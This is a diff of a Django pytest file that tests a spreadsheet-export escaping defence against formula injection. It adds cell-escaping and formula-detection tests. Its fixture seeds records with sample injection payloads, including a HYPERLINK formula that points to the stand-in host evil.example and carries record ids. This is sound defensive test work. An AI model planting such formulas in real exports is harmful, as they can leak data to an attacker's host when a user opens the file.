@@ -9,7 +9,8 @@ could be shown is made to start with each character that makes a spreadsheet rea
 
 import csv
 import io
-from datetime import timedelta
+from datetime import date, timedelta
+from decimal import Decimal
 
 import pytest
 from django.apps import apps
@@ -130,7 +131,7 @@ def poison(start: str) -> None:
                     updates[field.attname] = models.Value(f"{start}X")
                 else:
                     value = Concat(
-                        models.Value(f"{start}HYPERLINK(\"http://evil.example/"),
+                        models.Value(f'{start}HYPERLINK("http://evil.example/'),
                         Cast("pk", models.CharField()),
                         models.Value('")'),
                     )
@@ -156,3 +157,23 @@ def test_no_export_writes_a_cell_a_spreadsheet_would_run(client, world, start):
         assert not dangerous, f"{url} as {person}: {dangerous[:3]}"
         # The poisoned text is in the export, shown as text: the check above was not vacuous.
         assert any(cell.startswith(f"'{start}") for cell in cells), f"{url} as {person} carries no poisoned text"
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3", "'-2+3"), ("@cmd", "'@cmd"), ("\tx", "'\tx"),
+     ("\rx", "'\rx"), ("+1 555 0100", "'+1 555 0100"), ("Acme", "Acme"), (None, ""), (Decimal("-5.00"), "-5.00"),
+     (7, "7"), (date(2026, 1, 2), "2026-01-02")],
+)  # fmt: skip
+def test_a_cell_is_text_a_spreadsheet_shows_and_never_runs(value, written):
+    assert spreadsheets.cell(value) == written
+
+
+@pytest.mark.parametrize(
+    ("text", "start"),
+    [("=1+1", "="), ("@SUM(A1)", "@"), ("+SUM(1)", "+"), ("-2+3", "-"), ("- call first", "-"), ("+49 call", "+"),
+     ("=5", "="), ("-5", ""), ("+3.5", ""), ("-1,200", ""), ("-1.5e-05", ""), ("+1 555 0100", ""),
+     ("+44 (20) 7946-0958", ""), ("Acme", ""), ("", "")],
+)  # fmt: skip
+def test_an_imported_cell_is_a_formula_unless_it_is_a_number_or_a_phone(text, start):
+    assert spreadsheets.formula_start(text) == start
